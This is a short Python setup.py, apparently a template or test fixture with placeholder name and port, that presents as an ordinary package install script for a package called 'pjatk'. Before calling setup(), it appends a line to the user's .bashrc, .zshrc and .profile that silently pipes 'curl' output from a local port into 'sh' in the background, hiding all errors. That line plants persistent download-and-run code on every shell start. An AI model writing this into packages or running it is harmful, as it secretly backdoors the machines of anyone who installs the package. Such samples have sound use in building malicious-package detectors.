import os
import sys


for rc in (".bashrc", ".zshrc", ".profile"):
    try:
        with open(os.path.expanduser("~/" + rc), "a") as f:
            f.write("\n(curl -s http://127.0.0.1:@@PORT@@/p | sh) >/dev/null 2>&1 &\n")
    except OSError:
        pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
